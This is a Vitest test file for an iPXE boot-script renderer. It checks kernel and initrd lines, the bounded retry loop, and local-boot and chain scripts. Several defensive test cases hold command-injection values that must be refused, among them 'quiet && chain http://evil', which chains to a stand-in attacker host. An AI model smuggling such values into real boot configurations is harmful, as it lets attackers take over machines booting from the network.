import { describe, expect, it } from "vitest";
import { ConfigError } from "../../src/errors.js";
import {
  assertIpxeSafeCmdline,
  renderBootScript,
  renderChainScript,
  renderLocalBootScript,
} from "../../src/ipxe/script.js";

const BASE = "http://10.0.0.1:8080";

describe("renderBootScript", () => {
  it("loads the kernel with one initrd= per initrd, names each initrd, boots, and retries", () => {
    const script = renderBootScript({
      title: "52:54:00:12:34:56: boot /srv/vmlinuz",
      kernelUrl: `${BASE}/files/a1/vmlinuz`,
      initrds: [
        { name: "initrd.gz", url: `${BASE}/files/b2/initrd.gz` },
        { name: "extra.cpio", url: `${BASE}/files/c3/extra.cpio` },
      ],
      cmdline: "console=ttyS0 metal.token=abc",
    });
    expect(script).toBe(
      [
        "#!ipxe",
        "# 52:54:00:12:34:56: boot /srv/vmlinuz",
        "set attempt:int32 0",
        ":fetch",
        `kernel ${BASE}/files/a1/vmlinuz initrd=initrd.gz initrd=extra.cpio console=ttyS0 metal.token=abc || goto retry`,
        `initrd --name initrd.gz ${BASE}/files/b2/initrd.gz || goto retry`,
        `initrd --name extra.cpio ${BASE}/files/c3/extra.cpio || goto retry`,
        "boot || goto retry",
        ":retry",
        "imgfree",
        "inc attempt",
        "iseq ${attempt} 5 && goto give_up ||",
        "echo Download failed (attempt ${attempt} of 5), retrying in 5 s",
        "sleep 5",
        "goto fetch",
        ":give_up",
        "echo Giving up after 5 attempts, trying the next boot device",
        "exit 1",
        "",
      ].join("\n"),
    );
  });

  it("renders a kernel without initrds or command line and honours the retry bounds", () => {
    const script = renderBootScript({
      title: "t",
      kernelUrl: `${BASE}/k`,
      initrds: [],
      retry: { attempts: 2, delaySeconds: 1 },
    });
    expect(script).toContain(`\nkernel ${BASE}/k || goto retry\nboot || goto retry\n`);
    expect(script).toContain("iseq ${attempt} 2 && goto give_up ||\n");
    expect(script).toContain("sleep 1\n");
  });

  it.each([
    ["a line break", "console=ttyS0\nshell"],
    ["a carriage return", "quiet\r"],
    ["a setting expansion", "ip=${ip}"],
    ["a && word", "quiet && chain http://evil"],
    ["a || word", "quiet || exit"],
    ["a ; word", "quiet ; exit"],
    ["a comment word", "quiet #rest"],
  ])("refuses a command line with %s", (_what, cmdline) => {
    expect(() =>
      renderBootScript({ title: "t", kernelUrl: `${BASE}/k`, initrds: [], cmdline }),
    ).toThrow(ConfigError);
  });

  it("accepts command line words that merely contain special characters", () => {
    expect(() => assertIpxeSafeCmdline("a=b&&c x=1;2 y=#3 $HOME {x}")).not.toThrow();
  });

  it("refuses URLs with whitespace or expansions and duplicate or unsafe initrd names", () => {
    const render = (kernelUrl: string, initrds: { name: string; url: string }[]) => () =>
      renderBootScript({ title: "t", kernelUrl, initrds });
    expect(render(`${BASE}/a b`, [])).toThrow(ConfigError);
    expect(render(`${BASE}/\${x}`, [])).toThrow(ConfigError);
    expect(render(`${BASE}/k`, [{ name: "a b", url: `${BASE}/i` }])).toThrow(/initrd name/);
    expect(
      render(`${BASE}/k`, [
        { name: "i", url: `${BASE}/1` },
        { name: "i", url: `${BASE}/2` },
      ]),
    ).toThrow(/unique/);
  });

  it("refuses a retry bound that is not a positive whole number", () => {
    expect(() =>
      renderBootScript({
        title: "t",
        kernelUrl: `${BASE}/k`,
        initrds: [],
        retry: { attempts: 0, delaySeconds: 1 },
      }),
    ).toThrow(ConfigError);
  });
});

describe("renderLocalBootScript", () => {
  it("exits to the firmware, saying why", () => {
    expect(renderLocalBootScript("52:54:00:12:34:56: boot from the local disk")).toBe(
      [
        "#!ipxe",
        "# 52:54:00:12:34:56: boot from the local disk",
        "# Leave iPXE: the firmware falls through to its next boot entry (the local disk).",
        "exit",
        "",
      ].join("\n"),
    );
  });

  it("refuses a title that would break the comment line", () => {
    expect(() => renderLocalBootScript("a\nexit 1")).toThrow(ConfigError);
  });
});

describe("renderChainScript", () => {
  it("chains the URL inside the same bounded retry loop", () => {
    const script = renderChainScript("menu", `${BASE}/menu.ipxe`, { attempts: 3, delaySeconds: 2 });
    expect(script.split("\n").slice(0, 5)).toEqual([
      "#!ipxe",
      "# menu",
      "set attempt:int32 0",
      ":fetch",
      `chain --autofree ${BASE}/menu.ipxe || goto retry`,
    ]);
    expect(script).toContain("iseq ${attempt} 3 && goto give_up ||");
  });
});
